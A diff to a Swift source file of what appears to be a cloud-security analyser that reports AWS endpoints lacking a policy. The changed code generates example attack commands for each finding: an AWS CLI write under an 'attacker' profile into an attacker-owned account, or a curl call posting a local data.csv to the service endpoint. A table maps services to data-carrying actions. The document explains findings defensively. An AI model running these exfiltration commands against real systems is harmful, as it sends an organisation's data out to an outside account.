@@ -1,4 +1,5 @@
 import CordonModel
+import CordonPolicy
 
 /// An endpoint that asks nothing.
 struct EndpointWithoutPolicyRoute: Route {
@@ -28,7 +29,10 @@ struct EndpointWithoutPolicyRoute: Route {
           .open(
             name,
             RouteWitness(
-              "AWS_PROFILE=attacker aws \(endpoint.service.value?.prefix ?? short) help  # any call of \(short)",
+              Self.line(endpoint, scene.estate),
+              by: Walker(
+                caller: "anyone with a terminal in the network",
+                credentials: "any account's, carried in", door: "endpoint \(name)"),
               story: "Anyone with a shell in the network calls \(short) with credentials of any account.",
               fix: endpoint.fix, at: endpoint.resource, "PolicyDocument")))
       }
@@ -38,4 +42,35 @@ struct EndpointWithoutPolicyRoute: Route {
     }
     return judgement
   }
+
+  /// A call that carries data through the endpoint.
+  private static func line(_ endpoint: CloudEndpoint, _ estate: CloudEstate) -> String {
+    let short = endpoint.service.value?.short ?? "service"
+    let action = endpoint.service.value?.prefix.flatMap { TellingCall.actions[$0] }
+    guard let action,
+      let principal = try? Principal(parsing: "arn:aws:iam::\(estate.attackerAccount):user/theirs")
+    else {
+      // What reads no policy has no command that is known here: the service's own host takes what is sent.
+      return "curl -sS --data-binary @data.csv https://\(short).\(estate.region).amazonaws.com/"
+    }
+    let resource = estate.foreignResources(action.split(separator: ":")[0].description)[0]
+    let named = resource.replacing("*", with: "theirs")
+    return CommandLineCall(AccessRequest(principal: principal, action: action, resource: named))
+      .text(profile: "attacker")
+  }
+}
+
+/// For each service the call that shows best what leaves through its endpoint.
+enum TellingCall {
+  static let actions: [String: String] = [
+    "s3": "s3:PutObject", "logs": "logs:PutLogEvents", "sts": "sts:AssumeRole", "kms": "kms:Encrypt",
+    "sqs": "sqs:SendMessage", "sns": "sns:Publish", "ssm": "ssm:PutParameter", "events": "events:PutEvents",
+    "kinesis": "kinesis:PutRecord", "ecr": "ecr:PutImage", "dynamodb": "dynamodb:PutItem",
+    "secretsmanager": "secretsmanager:PutSecretValue", "codeartifact": "codeartifact:PublishPackageVersion",
+    "lambda": "lambda:InvokeFunction", "sagemaker": "sagemaker:CreateTrainingJob",
+    "athena": "athena:StartQueryExecution", "glue": "glue:CreateJob",
+    "cloudwatch": "cloudwatch:PutMetricData",
+    "states": "states:StartExecution", "firehose": "firehose:PutRecord", "codecommit": "codecommit:PutFile",
+    "bedrock": "bedrock:InvokeModel",
+  ]
 }
